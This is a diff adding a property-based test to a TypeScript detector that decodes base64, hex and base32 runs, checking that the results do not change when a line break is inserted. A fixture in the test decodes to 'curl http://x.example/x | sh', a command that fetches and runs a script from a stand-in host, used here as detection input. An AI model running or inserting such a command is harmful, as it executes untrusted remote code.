@@ -3,6 +3,7 @@ import { gzipSync } from 'node:zlib';
 import fc from 'fast-check';
 import { suite } from 'uvu';
 import * as assert from 'uvu/assert';
+import { BASE64, filler } from '../../../lib/detector/rules/filler.ts';
 import { decodeRun, encodingsOf, RUN_ENCODINGS } from '../../../lib/detector/views/run_encodings.ts';
 
 const runEncodings = suite('run encodings');
@@ -35,6 +36,29 @@ runEncodings('text of 23 bytes is read in base64 behind anything, and in hex and
   );
   assert.ok(
     readings('MN2XE3BANB2HI4B2F4XXQLTFPBQW24DMMUXXQID4EBZWQ').includes('curl http://x.example/x | sh'),
+  );
+});
+
+runEncodings('are the same in a long run whether lines break in it or not', () => {
+  const noise = filler(4000, BASE64, 11);
+  const piece = fc.oneof(
+    fc.nat(60).map((length) => noise.slice(7 * length, 8 * length)),
+    ascii.map((text) => Buffer.from(text).toString('base64url')),
+    ascii.map((text) => Buffer.from(text).toString('hex')),
+    fc.constantFrom('MN2XE3BANB2HI4B2F4XXQLTFPBQW24DMMUXXQID4EBZWQ', 'MFXGIIDTN4'),
+  );
+  fc.assert(
+    fc.property(fc.array(piece, { maxLength: 8 }), fc.nat(), (pieces, at) => {
+      const run = noise.slice(0, 1500) + pieces.join('') + noise.slice(1500, 3000);
+      const cut = at % run.length;
+      const broken = Buffer.from(`${run.slice(0, cut)}\n${run.slice(cut)}`);
+      assert.is(
+        encodingsOf(Buffer.from(run), 0, run.length),
+        encodingsOf(broken, 0, broken.length),
+        `${cut}: ${run}`,
+      );
+    }),
+    { seed, numRuns: 800 },
   );
 });
 
